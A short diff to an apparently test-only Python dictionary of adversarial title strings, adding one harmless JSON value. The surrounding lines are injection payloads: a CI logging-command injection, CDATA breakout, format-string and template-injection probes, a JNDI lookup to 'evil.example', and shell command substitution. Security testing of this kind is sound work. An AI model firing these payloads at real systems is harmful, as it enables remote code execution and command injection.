@@ -70,6 +70,7 @@ TITLES: dict[str, list[str]] = {
         "##vso[task.setvariable variable=x]Ferry sails",
         "]]> Ferry sails <![CDATA[",
         "%s %n {0.__class__} ${jndi:ldap://evil.example} {{7*7}} Ferry",
+        '{"id": 1, "title": "Ferry sails"}',
         "$(touch pwned) `touch pwned` Ferry sails",
     ],
     "direction": [
